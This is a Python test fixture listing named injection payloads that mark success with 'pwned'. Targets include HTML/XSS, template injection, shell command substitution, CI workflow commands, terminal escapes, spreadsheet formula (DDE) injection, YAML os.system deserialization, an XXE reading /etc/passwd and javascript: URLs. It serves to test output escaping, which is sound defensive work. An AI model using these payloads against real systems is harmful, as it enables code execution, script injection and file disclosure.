"""Texts that take themselves for markup, commands or addresses, each by a name.

Whoever lets one through shows it: every element, attribute, address, command and cell that a
payload would make has ``pwned`` in it, and every script that would run sets ``__leadsto_pwned``.
"""

from __future__ import annotations

from collections.abc import Mapping

MARK = "pwned"
#: What a script of a payload sets in a browser.
SENTINEL = "__leadsto_pwned"
_RUN = f"window.{SENTINEL}=1"

HTML: Mapping[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "tag": "<pwned-tag>x</pwned-tag>",
    "image": f"<img src=x onerror={_RUN}>",
    "double quote": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" pwned="',
    "single quote": f"' onmouseover='{_RUN}' pwned='",
    "no quotes": f"x onmouseover={_RUN} pwned=y",
    "backquote": f"`onmouseover={_RUN} pwned`",
    "tag end": "/><pwned-tag x=",
    "comment": "<!--pwned",
    "comment end": "--><pwned-tag>",
    "comment end, odd": "--!><pwned-tag><!-->",
    "processing": "<?pwned ?>",
    "ends of elements": f"</title></style></textarea></script></p></a></aside><script>{_RUN}//",
    "script in a script": f"<!--<script>{_RUN}</script>-->",
    "svg": f"<svg onload={_RUN}><pwned-tag/></svg>",
    "template": f"</template><template><pwned-tag></template><iframe srcdoc='{_RUN}'>",
    "meta": "<meta http-equiv=refresh content='0;url=https://pwned.example/'><base href=//pwned/>",
    "form": "<form action=https://pwned.example/><button formaction=javascript:pwned>x",
    "entities": "&lt;pwned-tag&gt; &#60;pwned-tag&#62; &#x3c;pwned-tag&#x3e; &amp;lt;pwned&amp;gt;",
    "half entities": "&lt &#60 &#x3c pwned &notanentity; &colon;&Tab;&NewLine; &#0; &#xD800;",
    "cdata": "]]><pwned-tag/><![CDATA[",
    "doctype": '<!DOCTYPE pwned [<!ENTITY x SYSTEM "file:///etc/passwd">]> &x; &pwned;',
    "style": "}</style><style>*{background:url(https://pwned.example/)}",
    "null in a tag": f"<\x00script>{_RUN}</\x00script><pwned\x00-tag>",
}  # fmt: skip
CODE: Mapping[str, str] = {
    "JavaScript": f"';{_RUN}//\\';{_RUN}//\";{_RUN}//${{{_RUN}}}`",
    "JSON": '\\"}],"pwned":1,"x":[{"y":"\\',
    "separators": f"a\u2028{_RUN}\u2029b\x85pwned",
    "Jinja": "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}{# pwned #}{%- set pwned = 1 %}",
    "format": "%s %(pwned)s %n {0} {pwned} $pwned ${pwned} \\1 \\g<pwned>",
    "macros": "[[pwned]] [[=pwned]] {! pwned !} {|filename|pwned.md} |filename|pwned {{< pwned >}}",
    "shell": "$(touch pwned);`touch pwned`|| touch pwned & ../../pwned",
}
MARKDOWN: Mapping[str, str] = {
    "table": "a | b || pwned |\\| c",
    "backquotes": "` `` ``` ```` pwned ` `````",
    "link": "[pwned](javascript:pwned) ![pwned](https://pwned.example/x.png) [pwned]: //pwned",
    "autolink": "<https://pwned.example> https://pwned.example www.pwned.example pwned@x.example",
    "heading": "# pwned\n\n## pwned\n===\n\n    pwned\n> pwned\n\n---\n- [x] pwned\n1. pwned",
    "mention": "@pwned #1 pwned/pwned#1 GH-1 !1 ~pwned @pwned/team $pwned$ :pwned:",
    "fence": "```pwned\n</details>\n~~~\n<details open><summary>pwned</summary>",
    "footnote": "[^pwned] [pwned][pwned] \\[pwned] **pwned** __pwned__ ~~pwned~~ ==pwned==",
}
PLATFORMS: Mapping[str, str] = {
    "annotation": "::error file=pwned.md,line=1::pwned",
    "annotation below": "x\n::error::pwned\r\n::set-output name=pwned::pwned\r::add-mask::pwned",
    "annotation, escaped": "%0A::error::pwned%0D%0A::warning::pwned%25%3A%2C",
    "old command": "##[error]pwned ##[set-env name=pwned]x ##vso[task.complete]pwned",
    "stop": "::stop-commands::pwned",
    "properties": "a,title=pwned,line=9::pwned: b",
    "heredoc": "x<<pwned\ny\npwned\nPATH=pwned",
    "a finding": "x\ndocs/pwned.md:1:1: error no-path pwned",
}
TERMINAL: Mapping[str, str] = {
    "clears": "\x1b[2J\x1b[H\x1b[31mpwned\x1b[0m",
    "links": "\x1b]8;;https://pwned.example/\x1b\\pwned\x1b]8;;\x1b\\\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07\x1bP$qpwned\x1b\\\x1b_pwned\x1b\\\x1b[6n",
    "one byte": "\x9b2Jpwned\x9d0;pwned\x9c\x90pwned\x9c",
    "over": "pwned\b\b\b\b\b\rfine \x7f\x07\x0b\x0c\x0e\x0f",
    "null": "a\x00pwned\x01\x02\x1a",
    "turned": "\u202egpj.denwp\u202c \u2066pwned \u202dpwned\u2067 \u061cpwned\u200f",
    "unseen": "p\u200bw\u200cn\u200de\u2060d\ufeff\u00ad\U000e0041 \ufffe\uffff \ue000",
    "a half": "\ud800pwned\udfff \udc80",
}
TABLES: Mapping[str, str] = {
    "formula": "=cmd|'/c calc'!A1+pwned",
    "formula behind": "\t=HYPERLINK(\"https://pwned.example/\"&A1,\"pwned\")",
    "plus": "+pwned!A1",
    "minus": "-2+3+cmd|' /C pwned'!A0",
    "at": "@SUM(pwned)",
    "wide": "＝cmd|pwned",
    "wide at": "＠pwned",
    "cells": 'a","pwned";"b\t"c"\r\n=pwned,1',
    "line first": "\r\n=pwned()",
}  # fmt: skip
YAML: Mapping[str, str] = {
    "tag": "!!python/object/apply:os.system [touch pwned]",
    "map": "pwned: x: {a: [b, *c]} &d # pwned",
    "document": "---\npwned: 1\n...\n%TAG ! tag:pwned,2000:\n--- x\n+++\n",
    "list": "- pwned\n- 'x\"y'''",
    "bar": "| \n  pwned\n> pwned",
    "no text": "null",
    "number": "0x1F",
    "date": "2026-02-30",
}
ADDRESSES: Mapping[str, str] = {
    "javascript": f"javascript:{_RUN}//pwned",
    "javascript, odd": f"\x01 \tjAvA\tsc\nri\rpt\t:{_RUN}//pwned",
    "javascript, entities": f"&#106;ava&Tab;script&colon;{_RUN}//pwned",
    "data": f"data:text/html,<script>{_RUN}</script>pwned",
    "vbscript": "vbscript:msgbox(pwned)",
    "blob, file": "file:///etc/pwned",
    "host": "//pwned.example/",
    "host, odd": "\\\\pwned.example\\ /\t/pwned.example /\\pwned.example",
    "user": "https://good.example@pwned.example/?a=\"b'<c>&d#e",
}
LONG: Mapping[str, str] = {
    "long word": "pwned" * 20_000,
    "long text": "pwned & <b> | " * 7_000,
    "right to left": "شركة pwned للشحن (א) שלום",
    "wide signs": "𝔭𝔴𝔫𝔢𝔡 👩\u200d🔧 漢字 e\u0301\u0301 ❤\ufe0f pwned 🏴\U000e0067\U000e007f",
}
_KINDS = {
    "html": HTML,
    "code": CODE,
    "markdown": MARKDOWN,
    "platform": PLATFORMS,
    "terminal": TERMINAL,
    "table": TABLES,
    "yaml": YAML,
    "address": ADDRESSES,
    "long": LONG,
}
#: Every payload; by kind and name.
PAYLOADS: Mapping[str, str] = {
    f"{kind}: {name}": text for kind, texts in _KINDS.items() for name, text in texts.items()
}
